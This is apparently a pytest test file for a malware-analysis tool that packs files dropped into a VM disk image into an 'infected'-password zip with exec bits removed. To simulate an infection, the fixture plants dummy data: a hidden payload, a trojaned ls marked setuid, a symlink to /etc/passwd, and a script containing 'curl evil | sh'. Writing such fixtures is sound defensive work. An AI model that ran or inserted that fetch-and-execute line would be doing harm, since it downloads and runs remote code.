"""The ``infected`` zip of dropped files (secvf.analysis.dropped), on real images."""

from __future__ import annotations

import hashlib
import shutil
import stat
import subprocess
import zipfile
from pathlib import Path

import pytest

from secvf.analysis.diskdiff import diff_raw, raw_image
from secvf.analysis.dropped import (
    DropLimits,
    DroppedZipError,
    write_dropped_zip,
)
from tests.unit.test_analysis_diskdiff import TOOLS, Images

pytestmark = pytest.mark.skipif(
    any(shutil.which(t) is None for t in (*TOOLS, "zip")),
    reason="needs e2fsprogs, qemu-utils and zip")


@pytest.fixture
def images(tmp_path: Path) -> Images:
    root = tmp_path / "tree"
    (root / "usr/bin").mkdir(parents=True)
    (root / "usr/bin/ls").write_bytes(b"\x7fELF old ls")
    (root / "etc").mkdir()
    (root / "etc/motd").write_text("hello\n")
    return Images(tmp_path, root)


@pytest.fixture
def dropped(images: Images, tmp_path: Path) -> dict[str, bytes]:
    files = {"/tmp/.x/payload": b"\x7fELF" + bytes(range(256)) * 40,
             "/usr/bin/ls": b"\x7fELF trojaned ls",
             "/root/run.sh": b"#!/bin/sh\ncurl evil | sh\n"}
    commands = ["mkdir /tmp", "mkdir /tmp/.x", "mkdir /root", "rm /usr/bin/ls"]
    for i, (path, data) in enumerate(files.items()):
        host = tmp_path / f"host{i}"
        host.write_bytes(data)
        commands += [f"write {host} {path}", f"sif {path} mode 0104755"]
    commands += ["symlink /root/link /etc/passwd", "rm /etc/motd"]
    images.change(*commands)
    return files


def test_zip_holds_the_dropped_files_without_exec_bits(images: Images,
                                                       dropped: dict[str, bytes]) -> None:
    out = images.tmp / "result" / "dropped.zip"
    out.parent.mkdir()
    result = write_dropped_zip(images.diff(), images.session, out, workdir=images.work)
    assert result.path == out and stat.S_IMODE(out.stat().st_mode) == 0o600
    assert {m.path for m in result.members} == set(dropped)
    assert {m.change for m in result.members if m.path == "/usr/bin/ls"} == {"modified"}
    with zipfile.ZipFile(out) as archive:
        for info in archive.infolist():
            assert info.flag_bits & 1, "not encrypted"
            mode = info.external_attr >> 16
            assert stat.S_ISREG(mode) and stat.S_IMODE(mode) == 0o644, oct(mode)
            data = archive.read(info, pwd=b"infected")
            assert data == dropped["/" + info.filename]
        with pytest.raises(RuntimeError, match="password"):
            archive.read(archive.infolist()[0], pwd=b"wrong")
    for member in result.members:
        assert member.sha256 == hashlib.sha256(dropped[member.path]).hexdigest()
    assert list(images.work.iterdir()) == []  # staging and raw copies removed
    assert sorted(p.name for p in out.parent.iterdir()) == ["dropped.zip"]


@pytest.mark.skipif(shutil.which("unzip") is None, reason="needs unzip")
def test_unzip_opens_it_with_the_password_only(images: Images, dropped: dict[str, bytes],
                                               tmp_path: Path) -> None:
    out = tmp_path / "dropped.zip"
    write_dropped_zip(images.diff(), images.session, out, workdir=images.work)
    good = subprocess.run(["unzip", "-P", "infected", "-p", str(out), "root/run.sh"],
                          capture_output=True, check=False)
    assert good.returncode == 0 and good.stdout == dropped["/root/run.sh"]
    bad = subprocess.run(["unzip", "-P", "nope", "-p", str(out), "root/run.sh"],
                         capture_output=True, check=False)
    assert bad.returncode != 0 and bad.stdout != dropped["/root/run.sh"]


def test_limits_skip_with_reasons_from_an_open_raw_image(images: Images,
                                                         dropped: dict[str, bytes],
                                                         tmp_path: Path) -> None:
    out = tmp_path / "dropped.zip"
    with raw_image(images.clean, images.work) as clean, \
            raw_image(images.session, images.work) as session:
        diff = diff_raw(clean, session, workdir=images.work)
        result = write_dropped_zip(diff, session, out, workdir=images.work,
                                   limits=DropLimits(max_file_bytes=1000, max_members=1))
    assert [m.path for m in result.members] == ["/root/run.sh"]
    reasons = {s.path: s.reason for s in result.skipped}
    assert "limit" in reasons["/tmp/.x/payload"] and "1 files" in reasons["/usr/bin/ls"]
    assert result.to_json()["encryption"] == "zipcrypto"


def test_nothing_dropped_gives_an_empty_zip(images: Images, tmp_path: Path) -> None:
    out = tmp_path / "dropped.zip"
    result = write_dropped_zip(images.diff(), images.session, out, workdir=images.work)
    assert result.members == [] and zipfile.ZipFile(out).namelist() == []


def test_an_existing_zip_is_not_overwritten(images: Images, tmp_path: Path) -> None:
    out = tmp_path / "dropped.zip"
    out.write_bytes(b"keep")
    with pytest.raises(DroppedZipError, match="exists"):
        write_dropped_zip(images.diff(), images.session, out, workdir=images.work)
    assert out.read_bytes() == b"keep"


def test_kept_copies_are_the_members_and_not_executable(images: Images,
                                                        dropped: dict[str, bytes]) -> None:
    out = images.tmp / "dropped.zip"
    keep = images.tmp / "kept"
    result = write_dropped_zip(images.diff(), images.session, out, workdir=images.work,
                               keep_files=keep)
    assert stat.S_IMODE(keep.stat().st_mode) == 0o700
    for member in result.members:
        copy = keep / "files" / member.name
        assert copy.read_bytes() == dropped[member.path]
        assert stat.S_IMODE(copy.stat().st_mode) == 0o644  # the guest's 04755 is gone
    assert list(images.work.iterdir()) == []  # the staging directory itself is removed
